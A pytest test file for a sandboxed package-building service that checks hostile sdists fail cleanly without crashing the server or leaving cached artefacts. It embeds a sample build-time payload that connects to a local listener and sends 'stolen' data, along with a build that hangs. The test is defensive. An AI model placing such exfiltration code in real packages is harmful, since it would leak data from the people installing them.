"""Hostile sdists against a running server: each build fails with a clear error naming the
package, the server keeps serving, and nothing of the hostile build stays in a cache."""

from __future__ import annotations

import dataclasses
import socket
from pathlib import Path

import pytest

from tests.sandbox.probe import probe_sdist
from tests.service.conftest import ApiServer
from tests.support.dists import make_real_sdist
from tests.support.environments import wait_finished
from tests.support.index_server import LocalIndex
from venvd.sandbox import bwrap_path
from venvd.service import Service
from venvd.target import Target

pytestmark = pytest.mark.skipif(bwrap_path() is None, reason="bubblewrap is not installed")


def test_hostile_sdists_fail_and_the_server_keeps_serving(
        tmp_path: Path, backend_index: LocalIndex, service: Service) -> None:
    target = Target.current().to_json()
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(5)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        phone = f"""
            import socket
            socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
            return "connected"
        """
        # One fails while resolving (its metadata needs a build), one in the build worker.
        backend_index.add(probe_sdist(tmp_path / "s", phone, name="phones-home"))
        backend_index.add(probe_sdist(tmp_path / "s", "import time\ntime.sleep(1000)",
                                      name="sleeper", metadata_version="2.2"))
        backend_index.add(make_real_sdist(tmp_path / "s", "good-one", "1.0", backend="flit_core"))
        server = ApiServer(service)
        try:
            with server.client() as client:
                answer = client.post("/v1/environments",
                                     json={"requirements": ["phones-home"], "target": target})
                assert answer.status_code == 409, answer.text
                error = answer.json()["error"]
                assert error["code"] == "build_failed"
                assert "phones-home" in error["message"]

                patient = service.environments.options
                service.environments.options = dataclasses.replace(patient, build_timeout=2)
                answer = client.post("/v1/environments",
                                     json={"requirements": ["sleeper"], "target": target})
                doc = wait_finished(client, answer.json()["id"])
                assert doc["status"] == "failed" and doc["error"]["code"] == "build_failed"
                assert doc["error"]["details"]["package"] == "sleeper"
                assert "took longer than 2 s" in doc["error"]["message"]

                service.environments.options = patient
                answer = client.post("/v1/environments",
                                     json={"requirements": ["good-one"], "target": target})
                assert wait_finished(client, answer.json()["id"])["status"] == "ready"
        finally:
            server.stop()
        with pytest.raises(BlockingIOError):
            listener.accept()  # no connection arrived
    data = service.settings.data_dir
    assert list((data / "tmp").iterdir()) == []
    built = data / "cache" / "built-v1"
    assert len(list(built.iterdir())) == 1  # good-one's wheel only
    # The sdists as the index served them may stay in the download cache; nothing built from them.
    leftovers = [p.name for p in (data / "cache").rglob("*")
                 if ("phones" in p.name or "sleeper" in p.name) and not p.name.endswith(".tar.gz")]
    assert leftovers == []
